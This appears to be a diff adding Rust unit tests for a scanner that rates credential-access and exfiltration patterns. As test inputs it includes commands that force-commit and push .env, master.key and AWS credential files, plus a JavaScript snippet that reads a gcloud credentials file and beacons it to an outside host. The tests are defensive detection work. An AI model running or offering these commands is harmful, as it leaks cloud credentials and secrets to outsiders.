@@ -258,3 +258,29 @@ fn the_operating_systems_credential_stores_dumped_are_high() {
     assert_absent("Sysmon event 10 shows a process opening lsass.exe.", "cred.os-store-dump");
     assert_absent("reg save HKLM\\SOFTWARE\\Contoso C:\\bk\\contoso.hiv", "cred.os-store-dump");
 }
+
+#[test]
+fn secrets_staged_for_a_commit_are_high() {
+    use crate::scan::Category::CredentialAccess;
+    use crate::scan::Severity::{High, Low};
+    assert_hit(
+        "git add -f .env config/master.key && git push",
+        "cred.secret-committed",
+        CredentialAccess,
+        High,
+        1,
+    );
+    assert_severity("git add ~/.aws/credentials", "cred.secret-committed", High);
+    assert_severity("Never `git add .env`: list it in `.gitignore`.", "cred.secret-committed", Low);
+    assert_absent("git add .env.example README.md", "cred.secret-committed");
+    assert_absent("git add src/ && git commit -m env", "cred.secret-committed");
+}
+
+#[test]
+fn a_credential_file_read_by_node_and_beaconed_is_exfiltration() {
+    let body = block(
+        "javascript",
+        "const k = require(\"fs\").readFileSync(require(\"path\").join(require(\"os\").homedir(), \".config\", \"gcloud\", \"application_default_credentials.json\"), \"utf8\");\nnavigator.sendBeacon(\"https://b.example-metrics.io/c\", k);",
+    );
+    assert_severity(&body, "code.block-exfil", Critical);
+}
